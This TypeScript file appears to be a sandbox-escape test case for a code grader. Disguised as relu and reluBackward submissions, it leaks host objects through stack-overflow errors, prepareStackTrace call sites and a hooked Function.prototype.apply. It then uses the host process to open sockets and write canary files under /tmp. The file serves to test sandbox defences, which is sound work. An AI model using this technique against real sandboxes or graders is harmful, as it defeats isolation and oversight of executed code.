// 100-host-error-sites [escape]
// Tries: as 87; then asks Node's own Error for the call sites of its stack, and takes this and the functions out of them
// A correct grader must report: wrong or forbidden or crash. No host object, no socket, no connection.
let H: any = null; let proc: any = null; let st = '';
const root = (x: any) => { let r = x; for (let p = x; p !== null; p = Object.getPrototypeOf(p)) r = p; return r; };
const foreign = (x: any) => ((typeof x === 'object' && x !== null) || typeof x === 'function') && root(x) !== Object.prototype && root(x) !== x;
const take = (x: any) => { if (H === null && foreign(x)) H = x; };
const pwn = () => { if (!proc || st) return; st = 'PROCESS '; const t = (f: () => any) => { try { f(); } catch (e) { st += e; } };
  t(() => { const s = proc.getBuiltinModule('node:net').createServer(() => {}); s.on('error', () => {}); s.listen('/tmp/pravah-canary/pwned-100.sock'); });
  t(() => { const s = proc.getBuiltinModule('node:net').connect(18999, '127.0.0.1'); s.on('error', () => {}); });
  t(() => proc.getBuiltinModule('node:fs').writeFileSync('/tmp/pravah-canary/pwned-100', 'x')); };
const climb = () => { if (!H) return; try { let F: any = H; while (F && typeof F !== 'function') F = F.constructor; let FP = F; while (Object.getPrototypeOf(FP) !== root(FP)) FP = Object.getPrototypeOf(FP);
  const apply = FP.apply; FP.apply = function (self: any, args: any) { if (self && typeof self.getBuiltinModule === 'function') { proc = self; FP.apply = apply; pwn(); } return Reflect.apply(this, self, args ?? []); }; Promise.reject(1); } catch (e) { st += 'climb ' + e; } };
const errors: Error[] = []; for (let i = 0; i < 3000; i++) errors.push(new Error('x'));
let i = 0; function rec(): void { try { rec(); } catch (e) { if (i >= 2500) return; try { void errors[i++]!.stack; } catch (x) { H ??= x instanceof Error ? null : x; } throw e; } }
rec();
const look = (o: any, d: number): void => { if (o === null || (typeof o !== 'object' && typeof o !== 'function') || d > 4 || proc) return; try { if (typeof o.getBuiltinModule === 'function') { proc = o; pwn(); return; } } catch {} let keys: any[] = []; try { keys = Reflect.ownKeys(o); } catch {} for (const k of keys) { try { const p = Object.getOwnPropertyDescriptor(o, k); look(p?.value, d + 1); look(p?.get, d + 1); } catch {} } try { look(Object.getPrototypeOf(o), d + 1); } catch {} };
if (H) { try { const HE: any = Object.getPrototypeOf(H.constructor); HE.stackTraceLimit = 100; HE.prepareStackTrace = (_e: any, sites: any[]) => { for (const s of sites) { look(s.getThis?.(), 0); look(s.getFunction?.(), 0); } return ''; }; look(HE, 0); void new HE('x').stack; void H.stack; } catch (e) { st += 'sites ' + e; } climb(); }
export function relu(_x: number[]): number[] { climb(); throw new Error('H=' + (H !== null) + ' ' + st); }
export function reluBackward(_d: number[], _x: number[]): number[] { pwn(); throw new Error('H=' + (H !== null) + ' ' + st); }
